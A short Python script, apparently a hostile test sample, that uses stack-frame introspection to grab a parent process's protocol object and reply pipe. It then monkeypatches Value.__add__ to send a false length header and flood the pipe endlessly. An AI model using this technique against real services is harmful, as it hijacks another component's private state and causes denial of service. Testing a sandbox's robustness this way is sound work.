import os, struct, sys

frame = sys._getframe()
while "replies" not in frame.f_locals:
    frame = frame.f_back
wire, requests, replies = frame.f_globals["protocol"], frame.f_locals["requests"], frame.f_locals["replies"]


def send(value):
    data = wire.encode(value)
    os.write(replies, struct.pack(">I", len(data)) + data)


def _flood(self, other):
    os.write(replies, struct.pack(">I", 2_000))
    while True:
        os.write(replies, b"n" * 65_536)


Value.__add__ = _flood
